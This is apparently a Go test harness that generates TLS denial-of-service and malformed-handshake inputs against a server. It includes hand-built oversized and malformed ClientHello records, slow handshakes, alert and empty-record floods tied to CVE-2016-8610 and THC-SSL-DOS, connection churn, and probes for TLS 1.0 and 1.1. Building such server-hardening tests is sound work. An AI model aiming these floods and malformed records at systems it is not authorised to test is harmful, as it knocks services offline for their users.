package attack

import (
	"crypto/tls"
	"errors"
	"fmt"
	"strings"
)

// hello is the least that a client of TLS can begin with, up to TLS 1.2 (RFC 5246 §7.4.1.2), in a record.
func hello(extensions string) string {
	body := "\x03\x03" + strings.Repeat("r", 32) + "\x00" + "\x00\x04\xc0\x2b\xc0\x2f" + "\x01\x00"
	body += string([]byte{byte(len(extensions) >> 8), byte(len(extensions))}) + extensions
	n := len(body)
	return record(22, string([]byte{1, byte(n >> 16), byte(n >> 8), byte(n)})+body)
}

// record is one of TLS (RFC 8446 §5.1).
func record(kind byte, payload string) string {
	return string([]byte{kind, 3, 1, byte(len(payload) >> 8), byte(len(payload))}) + payload
}

// extension is one of a hello.
func extension(id byte, payload string) string {
	return string([]byte{0, id, byte(len(payload) >> 8), byte(len(payload))}) + payload
}

// secured are attacks by TLS itself.
func secured() []Family {
	ways := []Way{spoll4}
	raw := func(name, text string) Input {
		return Input{name, func(a *Attacker, w Way) error {
			c, err := a.dialTCP(w)
			if err != nil {
				return err
			}
			return errors.Join(c.say(text), c.end())
		}}
	}
	waits := func(name, text string, short, long int) Input {
		return Input{name, func(a *Attacker, w Way) error {
			for range a.count(short, long) {
				c, err := a.dialTCP(w)
				if err != nil {
					return err
				}
				if err := c.say(text); err != nil {
					return err
				}
			}
			return nil
		}}
	}
	floodsWith := func(name, begin, one string) Input {
		return Input{name, func(a *Attacker, w Way) error {
			c, err := a.dialTCP(w)
			if err != nil {
				return err
			}
			return errors.Join(c.say(begin), c.flood([]byte(one), a.count(20_000, 1_000_000)))
		}}
	}
	old := func(name string, version uint16) Input {
		return Input{name, func(a *Attacker, w Way) error {
			c, err := a.dialTCP(w)
			if err != nil {
				return err
			}
			secure := tls.Client(c.tcp, &tls.Config{InsecureSkipVerify: true, MinVersion: version, MaxVersion: version})
			if err := secure.HandshakeContext(a.ctx); err == nil {
				return fmt.Errorf("%s is spoken", name)
			}
			return nil
		}}
	}
	return []Family{
		{"TLS handshakes that are none", "RFC 8446 §4, §5; RFC 8996", ways, []Input{
			raw("HTTP", head("GET", "/")), raw("zeros", strings.Repeat("\x00", 10_000)), raw("a record over the limit", "\x16\x03\x01\xff\xff"+strings.Repeat("x", 65535)), raw("a message over the limit", record(22, "\x01\xff\xff\xff")+record(22, strings.Repeat("x", 16_000))),
			raw("data before the handshake", record(23, "hello")), raw("a finish before it", record(20, "\x01")), raw("no cipher", record(22, "\x01\x00\x00\x29\x03\x03"+strings.Repeat("r", 32)+"\x00\x00\x00\x01\x00\x00\x00")),
			raw("lengths beyond the end", hello("\x00\x00\xff\xff")), raw("a name of 15,000 letters", hello(extension(0, "\x3a\x98\x00\x3a\x95"+strings.Repeat("n", 15_000)))), raw("protocols of nothing", hello(extension(16, "\x00\x02\x00\x00"))), raw("extensions twice", hello(extension(23, "")+extension(23, ""))),
			raw("SSL 2.0", "\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10"+strings.Repeat("x", 40)),
			old("TLS 1.0", tls.VersionTLS10), old("TLS 1.1", tls.VersionTLS11),
		}},
		{"TLS handshakes that are not finished", "slow handshakes; THC-SSL-DOS", ways, []Input{
			waits("nothing is said", "", 200, 4000), waits("half a record", "\x16\x03\x01\x02\x00\x01", 200, 4000), waits("a hello", hello(""), 200, 2000),
		}},
		{"TLS records without end", "CVE-2016-8610; Go CVE-2026-56862", ways, []Input{
			floodsWith("warnings", "", record(21, "\x01\x5a")), floodsWith("warnings behind a hello", hello(""), record(21, "\x01\x5a")), floodsWith("records of nothing", "", record(22, "")), floodsWith("changes of ciphers", hello(""), record(20, "\x01")),
		}},
		one("TLS connections that come and go", "churn", ways, func(a *Attacker, w Way) error {
			for n := range a.count(60, 2000) {
				c, err := a.dial(w)
				if err != nil {
					return err
				}
				if n%2 == 0 {
					err = c.tcp.SetLinger(0)
				}
				if err := errors.Join(err, c.tcp.Close()); err != nil {
					return err
				}
			}
			return nil
		}),
	}
}
